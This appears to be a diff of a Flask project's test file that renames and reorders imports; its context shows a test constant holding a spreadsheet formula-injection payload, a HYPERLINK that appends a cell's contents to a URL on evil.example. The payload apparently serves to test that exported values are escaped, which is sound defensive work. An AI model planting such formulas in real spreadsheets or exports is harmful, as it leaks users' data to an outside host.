@@ -14,13 +14,13 @@ from flask.testing import FlaskClient
 from markupsafe import escape
 from sqlalchemy import func, select
 
-from bot.catalogs import translations
-from bot.vocabulary import Locale
-from models.services import Service
-from webhooks.database import get_db
+from core.catalogs import translations
+from core.vocabulary import Locale
 from models import spreadsheet as cells
+from models.services import Service
 from tests.webhooks.outreach.helpers import ADMIN, add_events, login, make_user, post
 from tests.webhooks.outreach.test_directory import CSV_HEADER, VALID_ROW, import_errors, upload
+from webhooks.database import get_db
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 #: Imported (or typed) before phones were checked: each starts like a formula.
